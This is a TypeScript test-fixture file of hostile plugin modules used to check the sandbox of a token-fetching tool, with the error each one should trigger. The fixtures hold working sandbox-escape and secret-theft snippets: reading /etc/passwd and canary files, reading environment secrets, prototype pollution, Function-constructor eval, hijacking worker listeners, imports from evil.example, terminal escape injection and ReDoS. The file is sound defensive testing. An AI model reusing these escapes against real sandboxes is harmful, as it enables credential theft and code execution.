/**
 * Hostile provider modules, as data. from_modules.ts replaces `PORT` by the port of a token endpoint,
 * and adds a file `canary.txt` and a variable `CANARY`. No output may contain these or the secret.
 *
 * @module
 */

/** A hostile module and the expected result: one of the last two members. */
export interface HostileModule {
  /** Its files, by path. The first is the main file. */
  readonly files: Readonly<Record<string, string>>;
  /** Arguments after its path. */
  readonly args?: readonly string[];
  /** The run exits with 8 and names the module; stderr matches this. */
  readonly says?: readonly RegExp[];
  /** The run exits with 0 and prints only the token. */
  readonly harmless?: true;
}

/** The source of a provider, with more members and statements before it. */
export function evil(members = "", before = ""): string {
  return `${before}
export default {
  apiVersion: 1, name: "evil", title: "Evil", docs: "https://evil.example/docs",
  settings: {},
  endpoint: () => ({ tokenEndpoint: "http://127.0.0.1:PORT/token" }),
  ${members}
};
`;
}

function refused(source: string, ...says: readonly RegExp[]): HostileModule {
  return { files: { "evil.js": source }, says: [/\.\/evil\.js/, ...says] };
}

/** A module that tries something when it is loaded, and again in `parameters()`. */
function tries(expression: string, ...says: readonly RegExp[]): HostileModule {
  return refused(evil("", `const got = ${expression};`), ...says);
}

/** A module that catches failures and sends what it got. */
function sends(expression: string): HostileModule {
  const source = evil(
    "parameters: () => ({ leak: seen.concat(take()).map(String) }),",
    `const seen = [];
function take() {
  try {
    const got = ${expression};
    return got === undefined ? [] : [got];
  } catch {
    return [];
  }
}
seen.push(...take());`,
  );
  return { files: { "evil.js": source }, harmless: true };
}

/** A module that throws if it gets something. */
function finds(expression: string, before = ""): HostileModule {
  return {
    files: {
      "evil.js": evil(
        'parameters: () => { if (found()) throw new Error("found"); return {}; },',
        `${before}
function found() {
  try {
    return ${expression};
  } catch {
    return false;
  }
}
if (found()) throw new Error("found");`,
      ),
    },
    harmless: true,
  };
}

/** The expected error: the global is not defined. */
const wants = (name: string) => new RegExp(`it threw ReferenceError: ${name} is not defined`);

const reading: Readonly<Record<string, HostileModule>> = {
  "reads a file with Deno": tries('Deno.readTextFileSync("./canary.txt")', wants("Deno")),
  "reads a file with Deno, by way of the globals": sends(
    'globalThis["De" + "no"].readTextFileSync("./canary.txt")',
  ),
  "reads a file with Deno, by way of a symbol": sends(
    `[globalThis, Object, Symbol].flatMap((o) => Object.getOwnPropertySymbols(o).map((s) => o[s]))
      .map((o) => (o.core ?? o).ops.op_fs_read_file_text_sync("./canary.txt"))[0]`,
  ),
  "reads a file with Node": tries('process.getBuiltinModule("node:fs")', wants("process")),
  "reads a file with require": tries('require("node:fs")', wants("require")),
  "reads a file with fetch": tries(
    'await fetch(new URL("./canary.txt", import.meta.url))',
    wants("fetch"),
  ),
  "reads a file with a worker": tries('new Worker("./canary.txt")', wants("Worker")),
  "reads a file with a request": tries(
    'new XMLHttpRequest("./canary.txt")',
    wants("XMLHttpRequest"),
  ),
  "imports a file as a string": {
    files: { "evil.js": `import canary from "./canary.txt" with { type: "text" };\n${evil()}` },
    says: [/\.\/evil\.js: it imports with attributes/],
  },
  "imports a file as a module": {
    files: { "evil.js": `import canary from "./canary.txt";\n${evil()}` },
    says: [/\.\/canary\.txt: its name does not end in/, /\.\/evil\.js, line 1/],
  },
  "imports a file by its whole path": {
    files: { "evil.js": `import passwd from "/etc/passwd";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a file by its absolute path/],
  },
  "imports a file by its address": {
    files: { "evil.js": `import passwd from "file:///etc/passwd";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a file by its absolute path/],
  },
  "imports a file from above": {
    files: { "evil.js": `import other from "../other.ts";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a file outside its folder/],
  },
  "imports a file from above, in disguise": {
    files: { "evil.js": `export * from "./x/%2e%2e/../../other.ts";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a file outside its folder/],
  },
  "imports the file system": {
    files: { "evil.js": `import { readFileSync } from "node:fs";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a module of the runtime/],
  },
  "imports the file system without its prefix": {
    files: { "evil.js": `import { readFileSync } from "fs";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a package/],
  },
  "exports the file system": {
    files: { "evil.js": `export { readFileSync } from "node:fs";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a module of the runtime/],
  },
  "imports the file system in a file beside it": {
    files: {
      "evil.js": `import { canary } from "./lib/read.js";\n${evil()}`,
      "lib/read.js": 'export * as canary from "node:fs";',
    },
    says: [/\.\/lib\/read\.js: it imports a module of the runtime/],
  },
  "uses dynamic import": refused(
    evil("", 'const fs = await import("node:fs");'),
    /it uses dynamic import/,
  ),
  "uses dynamic import, in a function": refused(
    evil(
      'parameters: async () => ({ leak: (await import("node:fs")).readFileSync("canary.txt") }),',
    ),
    /it uses dynamic import/,
  ),
  "uses dynamic import, in disguise": refused(
    evil("", 'const fs = await im\\u0070ort("node:fs");'),
    /syntax error|uses dynamic import/,
  ),
  "uses dynamic import, behind a comment": refused(
    evil("", "const fs = await import/* */(`node:fs`);"),
    /uses dynamic import|syntax error/,
  ),
  "uses dynamic import, in a template": refused(
    evil("", "const fs = `${await import(`node:fs`)}`;"),
    /uses dynamic import|syntax error/,
  ),
  "imports the source of a file": refused(
    evil("", 'const source = await import.source("./canary.txt");'),
    /uses dynamic import|syntax error|unsupported form/,
  ),
  "imports code in a URL": refused(
    `import "data:text/javascript,import 'node:fs'";\n${evil()}`,
    /it imports code in a URL/,
  ),
  "names a file as the map of its source": {
    files: {
      "evil.js": evil("check: () => { throw new Error('x'); },") +
        "//# sourceMappingURL=file:///dev/zero\n",
    },
    says: [/\.\/evil\.js: check\(\) threw Error: x/],
  },
  "reads a variable with Deno": tries('Deno.env.get("CANARY")', wants("Deno")),
  "reads a variable with Node": tries("process.env.CANARY", wants("process")),
  "reads a variable, whatever it takes": sends(
    `[globalThis.process, globalThis.Deno, import.meta].map((o) =>
      o?.env?.CANARY ?? o?.env?.get?.("CANARY")).find((value) => value)`,
  ),
  "declares a variable that was not granted to it": {
    files: {
      "evil.js": evil(
        'settings: { other: { env: ["CANARY"] } }, parameters: (s) => ({ leak: s.other }),',
      ),
    },
    harmless: true,
  },
};

const reaching: Readonly<Record<string, HostileModule>> = {
  "asks the network": tries('await fetch("http://127.0.0.1:PORT/leak")', wants("fetch")),
  "asks the network by a socket": tries('new WebSocket("ws://127.0.0.1:PORT")', wants("WebSocket")),
  "asks the network by events": tries(
    'new EventSource("http://127.0.0.1:PORT")',
    wants("EventSource"),
  ),
  "imports a file from the web": {
    files: { "evil.js": `import "https://evil.example/evil.js";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a file from the web/],
  },
  "imports a package": {
    files: { "evil.js": `import "npm:left-pad";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a package/],
  },
  "runs a program": tries('new Deno.Command("id").outputSync()', wants("Deno")),
  "runs a program with Node": {
    files: { "evil.js": `import { execSync } from "node:child_process";\n${evil()}` },
    says: [/\.\/evil\.js: it imports a module of the runtime/],
  },
  "writes a file": tries('Deno.writeTextFileSync("./written.txt", "x")', wants("Deno")),
  "writes to a store": tries('localStorage.setItem("a", "b")', wants("localStorage")),
  "writes to a cache": tries('await caches.open("a")', wants("caches")),
  "ends the program": tries("Deno.exit(0)", wants("Deno")),
  "ends the program with Node": tries("process.exit(0)", wants("process")),
  "ends its worker": tries("close()", wants("close")),
  "speaks to the program": tries("postMessage({ id: 0, outcome: {} })", wants("postMessage")),
  "hears what the program says": tries(
    'addEventListener("message", String)',
    wants("addEventListener"),
  ),
  "takes a channel": finds("new BroadcastChannel('x') && new MessageChannel()"),
  "evaluates a string": tries('eval("1")', wants("eval")),
  "evaluates a string, indirectly": finds('(0, globalThis.eval)("true")'),
  "evaluates a string with a constructor": finds(
    `[() => {}, async () => {}, function* () {}, async function* () {}, class {}, Math.max,
      (() => {}).bind(), new Proxy(() => {}, {}), import.meta.resolve, console.log]
      .some((f) => [f.constructor, Object.getPrototypeOf(f).constructor].some((make) =>
        make && make !== Object && make("return true")() === true))`,
  ),
  "evaluates a string with a timer": tries('setTimeout("1")', wants("setTimeout")),
  "evaluates WebAssembly": tries("new WebAssembly.Module(new Uint8Array())", wants("WebAssembly")),
  "inspects its caller": finds(
    "[...places].some((place) => place.getThis?.() ?? place.getFunction?.())",
    `let places = [];
try { Error.prepareStackTrace = (_, found) => (places = found, ""); } catch {}
String(new Error("x").stack);`,
  ),
};

/** Event listeners that the runtime stores in globals. */
const books = `const books = Object.getOwnPropertySymbols(globalThis)
  .map((symbol) => globalThis[symbol]).find((value) => value?.listeners);`;

const spoiling: Readonly<Record<string, HostileModule>> = {
  "pollutes all objects": refused(
    evil("", "Object.prototype.polluted = true;"),
    /it threw TypeError: Cannot add property polluted/,
  ),
  "pollutes all objects with a getter": refused(
    evil("", "Object.defineProperty(Object.prototype, 'nodeType', { get() { throw 1; } });"),
    /it threw TypeError: Cannot define property nodeType/,
  ),
  "pollutes all lists": refused(
    evil("", "Array.prototype[Symbol.iterator] = () => { throw 1; };"),
    /it threw TypeError/,
  ),
  "pollutes all promises": refused(
    evil("", "Promise.prototype.then = () => { throw 1; };"),
    /it threw TypeError/,
  ),
  "pollutes the host by the names of members": refused(
    evil('["__proto__"]: { polluted: true },'),
    /__proto__ is not part of the contract/,
  ),
  "pollutes the host by the names of settings": refused(
    evil('settings: { ["__proto__"]: { env: ["X"] } },'),
    /settings\.__proto__ (must have|has)/,
  ),
  "confuses the host by the name of a setting": refused(
    evil("settings: { toString: {}, constructor: {} },"),
    /settings\.toString has the name of a member that every object has/,
    /settings\.constructor has the name/,
  ),
  "pollutes the host by the names of form fields": {
    files: { "evil.js": evil('parameters: () => ({ ["__proto__"]: "x", constructor: "y" }),') },
    harmless: true,
  },
  "takes the globals away": {
    files: {
      "evil.js": evil(
        "",
        "for (const name of Reflect.ownKeys(globalThis)) Reflect.deleteProperty(globalThis, name);",
      ),
    },
    harmless: true,
  },
  "freezes all that it can reach": {
    files: {
      "evil.js": evil(
        "",
        `const seen = new Set();
function freeze(value) {
  if (Object(value) !== value || seen.has(value)) return;
  seen.add(value);
  try { Object.freeze(value); } catch {}
  for (const name of Reflect.ownKeys(value)) {
    const { value: member, get, set } = Object.getOwnPropertyDescriptor(value, name);
    [member, get, set].forEach(freeze);
  }
  freeze(Object.getPrototypeOf(value));
}
freeze(globalThis);`,
      ),
    },
    harmless: true,
  },
  "gives the globals a prototype": refused(
    evil("", "Object.setPrototypeOf(globalThis, new Proxy({}, {}));"),
    /it threw TypeError: Object\.setPrototypeOf is not a function/,
  ),
  "takes a message's place": refused(
    evil("", `${books}\nbooks.listeners.message[0] = { callback: String };`),
    /it threw TypeError/,
  ),
  "has the worker load another module": {
    files: {
      "evil.js": evil(
        "",
        `${books}
const load = 'data:text/javascript,import p from "node:process"; p.stdout.write("evil")';
try { await books.listeners.message[0].callback({ data: { id: 99, task: { load } } }); } catch {}`,
      ),
    },
    says: [/\.\/evil\.js/],
  },
  "makes up an event": {
    files: {
      "evil.js": evil(
        "",
        "try { dispatchEvent(new Proxy({}, { get() { throw new Error('evil'); } })); } catch {}",
      ),
    },
    harmless: true,
  },
  "makes up a failure": refused(
    evil("", "dispatchEvent({ type: 'error', error: new Error('made up'), preventDefault() {} });"),
    /it threw Error: made up/,
  ),
};

const shouting: Readonly<Record<string, HostileModule>> = {
  "writes with the console": {
    files: {
      "evil.ts": evil(
        "",
        'for (const write of Object.values(console)) write("evil", { a: 1 });',
      ),
    },
    harmless: true,
  },
  "writes what a terminal would obey": {
    files: { "evil.ts": evil("", 'console.log("\\x1b[31m\\u202e\\x9b\\r\\nevil");') },
    args: ["-v"],
    harmless: true,
  },
  "writes without an end": {
    files: {
      "evil.ts": evil("", 'for (let i = 0; i < 1e5; i++) console.log("evil ".repeat(1e3));'),
    },
    args: ["-v"],
    harmless: true,
  },
  "writes with Deno": tries("Deno.stdout.writeSync(new Uint8Array([120]))", wants("Deno")),
  "writes with Node": tries('process.stdout.write("evil")', wants("process")),
  "writes by asking": tries('prompt("evil")', wants("prompt")),
  "writes by a failure later on": refused(
    evil("", 'queueMicrotask(() => { throw new Error("\\x1b[31mevil"); });'),
    /it threw (Reference|Type)Error: queueMicrotask is not/,
  ),
  "writes by a failure that is reported": tries(
    'reportError(new Error("\\x1b[31mevil"))',
    wants("reportError"),
  ),
  "writes by a promise that is left alone": refused(
    evil("", 'Promise.reject(new Error("\\x1b[31mred"));'),
    /it threw Error: \[31mred/,
  ),
  "writes by a promise that is left alone and cannot be read": refused(
    evil(
      "",
      "Promise.reject({ __proto__: Error.prototype, get message() { throw new Error('evil'); } });",
    ),
    /it threw object/,
  ),
  "writes by what it throws": refused(
    evil("", 'throw new TypeError("one\\x1b[31m\\u202etwo\\nevil\\n".repeat(1e5));'),
    /it threw TypeError: one \[31m two$/m,
  ),
  "writes by its title": refused(
    evil('title: "\\x1b[31mEvil",'),
    /title must be a printable string/,
  ),
  "writes by a hint": refused(
    evil('explain: [{ error: "x", hint: "\\u202eevil" }],'),
    /explain\[0\]\.hint must be a printable string/,
  ),
  "writes by the names of its members": refused(
    evil('["\\x1b[31m\\nevil"]: 1,'),
    /\[31m evil is not part of the contract/,
  ),
};

/** A setting with a value from the command line. */
const withWord = (members: string, word: string): Pick<HostileModule, "args" | "files"> => ({
  files: { "evil.js": evil(`settings: { word: { ${members} } },`) },
  args: ["--word", word],
});

const prying: Readonly<Record<string, HostileModule>> = {
  "declares that the secret is not secret": refused(
    evil(
      "settings: { clientSecret: { secret: false } }, parameters: (s) => ({ leak: s.clientSecret }),",
    ),
    /settings\.clientSecret\.secret must be left out/,
  ),
  "wants the secret under another name": refused(
    evil(
      'settings: { other: { env: ["GETTOKEN_CLIENT_SECRET"] } }, parameters: (s) => ({ leak: s.other }),',
    ),
    /settings\.other\.env: GETTOKEN_CLIENT_SECRET is not a name that a module may use/,
  ),
  "wants its own secret under another name": refused(
    evil(
      'settings: { other: { env: ["EVIL_SECRET"] }, clientSecret: { env: ["EVIL_SECRET"] } },',
    ),
    /settings\.other\.env: EVIL_SECRET is a name for a secret/,
  ),
  "sends all its arguments": {
    files: {
      "evil.js": evil(
        `parameters: (...args) => ({ leak: [JSON.stringify(args), ...seen] }),
  check: (...args) => void seen.push(JSON.stringify(args)),
  clientAuthentication: ["client_secret_post"],`,
        "const seen = [];",
      ),
    },
    harmless: true,
  },
  "writes all its arguments": {
    files: { "evil.js": evil("check: (...args) => console.log(args),") },
    args: ["-v"],
    harmless: true,
  },
  "looks at the secret by patterns": {
    files: {
      "evil.js": evil(
        `settings: { clientSecret: {
    check: (value) => void seen.push(value),
    warn: [{ pattern: Object.assign(new (class extends RegExp {
      test(input) { seen.push(input); return true; }
      exec(input) { seen.push(input); return [input]; }
    })("x")), text: "x" }],
  } },
  parameters: () => ({ leak: seen }),`,
        "const seen = [];",
      ),
    },
    harmless: true,
  },
};

/** Values that are not as they must be, by the member that has them. */
const wrong: Readonly<Record<string, HostileModule>> = {
  "exports nothing": refused("export const a = 1;", /it has no default export/),
  "exports a function": refused(
    "export default () => ({});",
    /the default export must be an object/,
  ),
  "exports a class": refused("export default class {}", /the default export must be an object/),
  "exports something like a promise": refused(
    `export function then(give) { give({ default: 1 }); }\n${evil()}`,
    /the default export must be an object/,
  ),
  "exports what cannot be read": refused(
    "export default new Proxy({}, { ownKeys() { throw new Error('evil'); } });",
    /the default export throws an error when it is read/,
  ),
  "exports a hundred thousand members": refused(
    "export default Object.fromEntries(Array.from({ length: 1e5 }, (_, i) => ['k' + i, i]));",
    /the default export is too large/,
  ),
  "exports a thousand odd members": refused(
    evil("...Object.fromEntries(Array.from({ length: 1e3 }, (_, i) => ['k' + i, i])),"),
    /k0 is not part of the contract/,
    /and 980 more problems/,
  ),
  "exports a cyclic object": refused(
    `const odd = {}; odd.odd = odd;\n${evil("response: odd,")}`,
    /response\.odd is not part of the contract/,
  ),
  "has no endpoint": refused(evil("endpoint: undefined,"), /endpoint must be a function/),
  "has a string of 100 MB": refused(evil('title: "x".repeat(1e8),'), /title is too long/),
  "has a getter that throws": refused(
    evil("get docs() { throw new Error('evil'); },"),
    /docs throws an error when it is read/,
  ),
  "has a member of a wrong type": refused(
    evil("setup: 'evil',"),
    /setup must be a list of at most 50 items/,
  ),
  "has a member of no type": refused(evil("response: Symbol('evil'),"), /response is a symbol/),
  "has a setting of a wrong type": refused(
    evil("settings: { word: 1 },"),
    /settings must be an object with names of at most 60 characters/,
  ),
  "has settings without end": refused(
    evil("settings: Object.fromEntries(Array.from({ length: 1e4 }, (_, i) => ['word' + i, {}])),"),
    /settings must have at most 100 members/,
  ),
  "has another version": refused(evil("apiVersion: 2,"), /apiVersion must be 1/),
  "has the name of a provider": refused(
    evil('name: "entra",'),
    /name is taken: entra is a built-in/,
  ),
  "has another name of a provider": refused(
    evil('name: "azure",'),
    /name is taken: azure is a built-in/,
  ),
  "has the name of a command": refused(evil('name: "help",'), /name is taken: help is a command/),
  "throws when it is loaded": refused(
    evil("", "throw new Error('at once');"),
    /it threw Error: at once/,
  ),
  "throws a string when it is loaded": refused(evil("", "throw 'canary';"), /it threw string/),
  "throws nothing when it is loaded": refused(evil("", "throw undefined;"), /it threw undefined/),
  "throws a bit later": refused(
    evil("", "await null; throw new Error('later');"),
    /it threw Error: later/,
  ),
  "calls itself without end": refused(
    evil("", "(function again() { again(); })();"),
    /it threw RangeError: Maximum call stack size exceeded/,
  ),
  "throws in a function": refused(
    evil("endpoint: () => { throw new Error('then'); },"),
    /endpoint\(\) threw Error: then/,
  ),
  "throws what cannot be read in a function": refused(
    evil(
      `endpoint() {
    throw { __proto__: Error.prototype, get name() { throw 1; }, get message() { throw 1; } };
  },`,
    ),
    /endpoint\(\) threw object/,
  ),
  "leaves a failure alone in a function": refused(
    evil("parameters: () => { Promise.reject(new Error('alone')); return {}; },"),
    /parameters\(\) threw Error: alone/,
  ),
  "throws in the check of a setting": {
    ...withWord("check: () => { throw new Error('no'); }", "x"),
    says: [/\.\/evil\.js: settings\.word\.check\(\) threw Error: no/],
  },
  "gives no endpoint": refused(
    evil("endpoint: () => {},"),
    /endpoint\(\) returned a value that is not \{ tokenEndpoint/,
  ),
  "gives a function for an endpoint": refused(
    evil("endpoint: () => () => ({}),"),
    /endpoint\(\) returned a value that is not \{ tokenEndpoint/,
  ),
  "gives an address of 100 MB": refused(
    evil("endpoint: () => ({ tokenEndpoint: 'https://' + 'x'.repeat(1e8) }),"),
    /endpoint\(\) returned \{ tokenEndpoint \} whose value is too long/,
  ),
  "gives an address that changes": refused(
    evil(
      `endpoint() {
    let looks = 0;
    return { get tokenEndpoint() { return ++looks === 1 ? 1 : "http://127.0.0.1:PORT/token"; } };
  },`,
    ),
    /endpoint\(\) returned \{ tokenEndpoint \} whose value is not a URL/,
  ),
  "gives what is not yet a promise": {
    files: {
      "evil.js": evil(
        `endpoint() {
    let looks = 0;
    return {
      get then() { return ++looks === 1 ? undefined : () => {}; },
      tokenEndpoint: "http://127.0.0.1:PORT/token",
    };
  },`,
      ),
    },
    harmless: true,
  },
  "gives form fields of a wrong type": refused(
    evil("parameters: () => ({ right: 'x', wrong: { a: 1 } }),"),
    /parameters\(\) returned a form field "wrong" that is an object/,
  ),
  "gives a form field of 100 MB": refused(
    evil("parameters: () => ({ wrong: ['x'.repeat(1e8)] }),"),
    /parameters\(\) returned a form field "wrong" that is too long/,
  ),
  "gives a form field that is not its own": refused(
    evil('parameters: () => ({ grant_type: "password" }),'),
    /parameters\(\) returned the form field grant_type, which only gettoken sets/,
  ),
  "takes all memory": refused(
    evil("", "const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()));"),
    // Which comes first depends on the machine.
    /\.\/evil\.js (used more than 512 MiB of memory|did not load within \d+ s)/,
  ),
  "gives a form field that throws": refused(
    evil("parameters: () => ({ get wrong() { throw 1; } }),"),
    /parameters\(\) returned a form field "wrong" that throws an error when it is read/,
  ),
  "gives a verdict of a wrong type": refused(
    evil("check: () => true,"),
    /check\(\) returned a value that is neither a non-empty string nor undefined/,
  ),
};

/** Each of these takes the time that a module has: 3 s, or more on a busy machine. */
const slow: Readonly<Record<string, HostileModule>> = {
  "never loads": refused(evil("", "for (;;);"), /\.\/evil\.js did not load within \d+ s/),
  "never loads, in turns": refused(
    evil("", "for (;;) await null;"),
    /\.\/evil\.js did not load within \d+ s/,
  ),
  "waits for ever": refused(
    evil("", "await new Promise(() => {});"),
    /\.\/evil\.js did not load within \d+ s/,
  ),
  "is read for ever": refused(
    evil("get title() { for (;;); },"),
    /\.\/evil\.js did not load within \d+ s/,
  ),
  "never answers": refused(
    evil("endpoint: () => new Promise(() => {}),"),
    /endpoint\(\) did not answer within \d+ s/,
  ),
  "never answers, with a promise of promises": refused(
    evil("endpoint: () => ({ then(give) { give(this); } }),"),
    /endpoint\(\) did not answer within \d+ s/,
  ),
  "never ends in a form field": refused(
    evil("parameters: () => ({ get word() { for (;;); } }),"),
    /parameters\(\) did not answer within \d+ s/,
  ),
  "never ends in what cannot be interrupted": refused(
    evil("parameters: () => [].indexOf.call({ length: 2 ** 53 - 1 }, 1),"),
    /parameters\(\) did not answer within \d+ s/,
  ),
  "never ends in a pattern": {
    ...withWord("warn: [{ pattern: /^(a+)+$/, text: 'is odd' }]", `${"a".repeat(50)}!`),
    says: [/\.\/evil\.js: settings\.word\.warn\[0\]\.pattern\(\) did not answer within \d+ s/],
  },
  "never ends while it writes": refused(
    evil("check: () => console.log({ toJSON() { for (;;); } }),"),
    /check\(\) did not answer within \d+ s/,
  ),
};

/** All of them. Those that take 3 s each come last. */
export const hostileModules: Readonly<Record<string, HostileModule>> = {
  ...reading,
  ...reaching,
  ...spoiling,
  ...shouting,
  ...prying,
  ...wrong,
  ...slow,
};
